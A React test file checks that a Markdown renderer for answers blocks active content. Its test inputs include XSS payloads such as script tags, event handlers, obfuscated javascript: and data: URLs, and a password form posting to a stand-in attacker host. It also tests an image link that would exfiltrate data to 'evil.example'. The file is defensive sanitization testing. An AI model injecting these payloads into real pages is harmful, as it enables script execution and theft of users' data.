import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';

const shown = (text: string) => render(<Markdown text={text} growing={false} />).container;

describe('the Markdown of an answer', () => {
  it('shows headings, lists, tables and code', () => {
    shown('# Title\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`');
    expect(screen.getByRole('heading', { name: 'Title' })).toBeVisible();
    expect(screen.getByRole('listitem')).toHaveTextContent('one');
    expect(screen.getByRole('table')).toBeVisible();
    expect(screen.getByText('code').tagName).toBe('CODE');
  });

  it('opens links elsewhere, without handing over this page', () => {
    shown('[there](https://example.org/a)');
    const link = screen.getByRole('link', { name: 'there' });
    expect(link).toHaveAttribute('rel', expect.stringContaining('noopener'));
    expect(link).toHaveAttribute('target', '_blank');
  });

  it('loads no image from anywhere, and links to it instead', () => {
    const view = shown('![secret](https://evil.example/?q=stolen)');
    expect(view.querySelector('img')).toBeNull();
    expect(screen.getByRole('link', { name: 'secret' })).toHaveAttribute('href', 'https://evil.example/?q=stolen');
  });

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>*{display:none}</style>',
    '<form action="https://evil.example"><input name="password"></form>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#10;script:alert(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](vbscript:msgbox(1))',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '<https://example.org/" onmouseover="alert(1)>',
    '```html\n<script>alert(1)</script>\n```',
  ])('runs nothing and loads nothing of %j', (attack) => {
    const view = shown(attack);
    expect(view.querySelector('script, img, svg:not(button svg), iframe, style, form, input, object, embed, link, meta, base')).toBeNull();
    const elements = [...view.querySelectorAll('*')];
    expect(elements.flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith('on'))).toEqual([]);
    const hrefs = elements.map((element) => element.getAttribute('href')).filter((href) => href !== null && href !== '');
    expect(hrefs.filter((href) => !/^(https?:|mailto:|#)/i.test(href ?? ''))).toEqual([]);
  });
});
